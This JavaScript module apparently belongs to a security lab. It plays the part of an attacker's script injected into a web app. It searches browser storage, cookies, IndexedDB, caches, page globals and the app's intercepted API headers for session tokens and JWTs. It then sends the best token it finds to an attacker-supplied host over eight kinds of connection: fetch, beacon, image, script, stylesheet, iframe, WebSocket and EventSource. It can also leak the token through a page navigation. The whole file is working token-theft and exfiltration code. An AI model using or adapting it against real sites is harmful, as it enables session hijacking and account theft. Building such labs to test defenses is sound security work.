// The attacker's script inside the app: it can do whatever the app's own script can.
import { leaving, run as id, travel } from "./tab.js";

const jwt = /eyJ[\w-]{8,}\.[\w-]{8,}(?:\.[\w-]+)?/g;

/** Runs beside the app. The client is the app's own. */
export function run(client) {
  sessionStorage.setItem("lab", id); // so that the tab finds home from any page of this origin
  const at = location.pathname.startsWith("/lab/open/") ? "open" : "victim"; // however it came here
  return travel(at, {
    "read-tokens/0": () => read(),
    "send-policy/0": ({ to }) => send(to, "policy "),
    "send-policy/1": async ({ page }) => {
      location.href = `${page}&by=${encodeURIComponent("policy navigation")}&loot=${encodeURIComponent(best(await read()).slice(0, 4000))}`;
      return leaving;
    },
    "send-open/0": ({ to }) => send(to, "open "),
    "live-session/0": ({ email }) => write(client, email),
    "leave/0": () => leave(client),
  });
}

/** Not an attack: signs out, as the app does. */
async function leave(client) {
  if (client.end) return client.end();
  const { csrf_token = "1" } = await client.session();
  const { status } = await fetch("/auth/logout", { method: "POST", headers: { "X-CSRF-Token": csrf_token, Accept: "application/json" } });
  return { status };
}

async function write(client, email) {
  const answer = await client.fetch("/api/email", { method: "POST", body: new URLSearchParams({ email }) });
  return { status: answer.status };
}

/** Looks everywhere that script can look, and returns what it found: where and what. */
async function read() {
  const overheard = await listenIn(async () => {
    document.getElementById("reload").click(); // the app calls its API, as it does all day
    await new Promise((done) => setTimeout(done, 400));
  });
  const places = {
    localStorage: () => kept(localStorage),
    sessionStorage: () => kept(sessionStorage),
    "document.cookie": () => document.cookie,
    IndexedDB: databases,
    "Cache storage": cached,
    "the page and its globals": () => [document.documentElement.outerHTML, ...Object.keys(window).map((key) => text(window[key]))].join("\n"),
    "the app's own calls": () => overheard.join("\n"),
    "POST /auth/token": () => asked("/auth/token", "POST"),
    "POST /auth/refresh": () => asked("/auth/refresh", "POST"),
    "GET /auth/session": () => asked("/auth/session", "GET"),
    "GET /api/me": () => asked("/api/me", "GET"),
  };
  const loot = [];
  for (const [where, look] of Object.entries(places)) {
    const all = String(await Promise.resolve().then(look).catch(() => ""));
    const found = new Set(all.match(jwt) ?? []);
    if (where.endsWith("Storage")) for (const value of Object.values(window[where])) if (value.length > 20) found.add(value);
    for (const what of found) loot.push({ where, what: what.slice(0, 4000) });
  }
  return loot.slice(0, 40);
}

/** The best of the loot: a whole token, else a part of one, else nothing. */
const best = (loot) =>
  loot.find(({ what }) => what.split(".").length === 3)?.what ?? loot.find(({ what }) => what.startsWith("eyJ"))?.what ?? "nothing";

/** Patches what the app sends with, and returns the headers and answers that went by while it acted. */
async function listenIn(act) {
  const heard = [];
  const original = window.fetch;
  const set = XMLHttpRequest.prototype.setRequestHeader;
  window.fetch = async (input, init) => {
    const request = new Request(input, init);
    heard.push([...request.headers].join("\n"));
    const response = await original(request);
    heard.push(await response.clone().text());
    return response;
  };
  XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
    heard.push(value);
    return set.call(this, name, value);
  };
  try {
    await act();
  } finally {
    window.fetch = original;
    XMLHttpRequest.prototype.setRequestHeader = set;
  }
  return heard;
}

const kept = (storage) => Object.entries(storage).filter(([key]) => key !== "lab").map(([, value]) => value).join("\n");

async function databases() {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((done, failed) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => done(opening.result);
      opening.onerror = failed;
    });
    for (const store of db.objectStoreNames) {
      const values = db.transaction(store).objectStore(store).getAll();
      all.push(await new Promise((done) => (values.onsuccess = () => done(text(values.result)))));
    }
    db.close();
  }
  return all.join("\n");
}

async function cached() {
  if (!("caches" in window)) return "";
  const all = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) all.push(await (await cache.match(request)).text());
  }
  return all.join("\n");
}

function text(value) {
  try {
    return typeof value === "string" ? value : JSON.stringify(value) ?? "";
  } catch {
    return "";
  }
}

async function asked(path, method) {
  return (await fetch(path, { method, headers: { "X-CSRF-Token": "1" } })).text();
}

/** Sends the best of the loot to the attacker's host by every kind of connection that a page can make. */
async function send(to, prefix) {
  const loot = best(await read());
  const address = (by) => `${to}&by=${encodeURIComponent(prefix + by)}&loot=${encodeURIComponent(loot)}`;
  const element = (name, attributes) =>
    new Promise((done) => {
      const made = Object.assign(document.createElement(name), { onload: done, onerror: done }, attributes);
      document.head.append(made);
    });
  const ways = [
    () => fetch(address("fetch"), { mode: "no-cors" }),
    () => navigator.sendBeacon(address("beacon")),
    () => element("img", { src: address("image") }),
    () => element("script", { src: address("script") }),
    () => element("link", { rel: "stylesheet", href: address("style") }),
    () => element("iframe", { src: address("frame") }),
    () => new Promise((done) => (new WebSocket(address("socket").replace(/^http/, "ws")).onerror = done)),
    () => new Promise((done) => (new EventSource(address("events")).onerror = done)),
  ];
  await Promise.allSettled(ways.map((way) => Promise.race([Promise.resolve().then(way), new Promise((done) => setTimeout(done, 1500))])));
  return { had: loot !== "nothing" };
}
